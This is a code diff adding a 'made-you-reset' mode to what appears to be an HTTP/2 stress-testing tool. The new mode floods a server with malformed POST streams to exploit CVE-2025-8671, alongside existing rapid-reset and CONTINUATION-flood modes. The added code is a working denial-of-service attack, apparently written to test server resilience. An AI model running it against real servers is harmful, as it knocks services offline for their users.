@@ -9,6 +9,12 @@ Modes (each prints one JSON object on stdout, then exits):
 
 - `rapid-reset`: HEADERS then RST_STREAM(CANCEL) for --count streams, in batches
   (CVE-2023-44487). Reports the GOAWAY the server sent, if any, and how many were sent.
+- `made-you-reset`: a POST head saying `content-length: 1`, then 2 bytes of DATA, which
+  the server must answer with RST_STREAM(PROTOCOL_ERROR) (a malformed request), for
+  --count streams in batches: the reset is the server's, so the rapid-reset bound on
+  the client's resets does not see it, while the request was already taken up
+  (CVE-2025-8671, "MadeYouReset"; h2 answers its other triggers, DATA on a closed
+  stream or a WINDOW_UPDATE of 0, with a GOAWAY).
 - `continuation`: one HEADERS without END_HEADERS, then up to --count tiny CONTINUATION
   frames that never end the header block (the CVE-2024-27316 class).
 - `big-headers`: one request whose header list is --size bytes, split into CONTINUATION
@@ -282,6 +288,25 @@ def main():
                     frames.append(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
                     frames.append(RstStreamFrame(stream, error_code=CANCEL))
                 conn.send(frames)
+                sent += 100
+                conn.read(0.001)
+        except (ConnectionError, OSError):
+            conn.closed = True
+        conn.read(5)
+        result = {"sent": sent}
+    elif args.mode == "made-you-reset":
+        conn = Conn(args)
+        conn.read(0.5)
+        sent = 0
+        try:
+            while sent < args.count and not conn.closed and conn.goaway is None:
+                batch = b""
+                for _ in range(100):
+                    stream = conn.new_stream()
+                    block = conn.request_headers(args.path, "POST", [("content-length", "1")])
+                    batch += HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
+                    batch += DataFrame(stream, b"xx", flags=["END_STREAM"]).serialize()
+                conn.sock.sendall(batch)
                 sent += 100
                 conn.read(0.001)
         except (ConnectionError, OSError):
